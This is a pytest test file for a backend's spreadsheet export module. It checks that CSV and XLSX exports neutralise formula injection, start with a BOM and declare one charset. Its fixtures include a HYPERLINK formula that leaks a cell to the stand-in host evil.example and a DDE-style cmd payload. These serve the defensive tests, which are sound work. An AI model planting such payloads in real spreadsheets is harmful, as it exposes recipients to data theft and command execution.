"""Spreadsheet exports (backend/exports.py): no formula injection, a BOM, one charset."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from backend import exports
from tests.support.board_history import Job, at, build, range_params
from tests.support.factories import account, team

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rows(response) -> list[dict[str, str]]:
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first, for Excel"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _one_charset(response) -> None:
    content_type = response.headers["content-type"]
    assert content_type.startswith("text/csv")
    assert content_type.lower().count("charset=") == 1, content_type


async def test_a_rating_comment_formula_is_text_in_the_supervisors_csv(api):
    job = Job(
        "d1",
        "e1",
        at(1, 9),
        offers=[("e1", at(1, 9, 5))],
        accepted=at(1, 9, 10),
        arrived=at(1, 10),
        completed=at(1, 11),
        rating=(1, HYPERLINK, at(1, 12)),
    )
    w = await build(api, [job])
    response = await api.get(
        "/api/boards/satisfaction/csv",
        params={**range_params(), "table": "low_ratings"},
        headers=w.supervisor.headers,
    )
    assert response.status_code == 200, response.text
    _one_charset(response)
    [row] = _rows(response)
    assert row["comment"] == "'" + HYPERLINK


async def test_an_account_name_formula_is_text_in_the_sales_csv(api):
    people = await team(api)
    await account(api, people["admin"], name=SUM, grade="A", owner_id=people["rep"].id)
    response = await api.get(
        "/api/boards/sales/csv",
        params={**range_params(), "table": "uncontacted"},
        headers=people["supervisor"].headers,
    )
    assert response.status_code == 200, response.text
    _one_charset(response)
    names = [row["name"] for row in _rows(response)]
    assert "'" + SUM in names
    assert SUM not in names


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain 王小明", "plain 王小明"),
        ("a=b", "a=b"),
        (-2, -2),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_neutralise(cell, out):
    assert exports.neutralise(cell) == out


def test_csv_of_rows():
    response = exports.csv_response(
        [["=cmd", -3, None, True, "王"]], ["a", "b", "c", "d", "e"], "报表 1"
    )
    assert response.media_type == "text/csv"
    assert "filename*=UTF-8''%E6%8A%A5%E8%A1%A8%201.csv" in response.headers["Content-Disposition"]
    text = exports.csv_bytes([["=cmd", -3, None, True, "王"]], ["a", "b", "c", "d", "e"])
    assert text.decode("utf-8") == "\ufeffa,b,c,d,e\r\n'=cmd,-3,,true,王\r\n"


def test_xlsx_cells_are_text_not_formulas():
    data = exports.xlsx_bytes([[HYPERLINK, SUM, 4, "王小明"]], ["comment", "name", "n", "who"])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells == [["comment", "name", "n", "who"], ["'" + HYPERLINK, "'" + SUM, 4, "王小明"]]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_response():
    response = exports.xlsx_response([["a"]], ["h"], "accounts")
    assert response.media_type == exports.XLSX_MEDIA_TYPE
    assert 'filename="accounts.xlsx"' in response.headers["Content-Disposition"]
